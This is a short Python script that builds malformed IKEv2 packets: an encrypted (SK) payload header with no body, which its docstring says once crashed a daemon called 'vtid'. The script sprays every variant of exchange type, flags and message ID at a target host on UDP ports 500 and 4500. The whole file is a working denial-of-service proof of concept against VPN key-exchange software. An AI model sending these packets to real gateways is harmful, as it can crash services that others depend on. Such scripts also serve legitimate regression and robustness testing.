"""stub.py DST SPI_I SPI_R: the 32-byte message that once killed vtid (an
IKE header naming an SK payload, and an SK payload with no body), in every
variant of exchange type, flags and message ID, with the given IKE SPIs
(and with the responder SPI zeroed), to UDP 500 and to 4500 behind the
non-ESP marker.  Prints how many datagrams were sent."""
import socket
import struct
import sys

dst, spi_i, spi_r = sys.argv[1], int(sys.argv[2], 16), int(sys.argv[3], 16)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent = 0
for r in (0, spi_r):
    for exch in (37, 36, 35, 34):	# INFORMATIONAL first: the one that crashed
        for flags in (0x20, 0x28, 0x00, 0x08):
            for msgid in (0, 1, 2, 5, 0xFFFFFFFF):
                m = struct.pack(">QQBBBBII", spi_i, r, 46, 0x20, exch, flags, msgid, 32)
                m += struct.pack(">BBH", 0, 0, 4)
                udp.sendto(m, (dst, 500))
                udp.sendto(bytes(4) + m, (dst, 4500))
                sent += 2
print(sent)
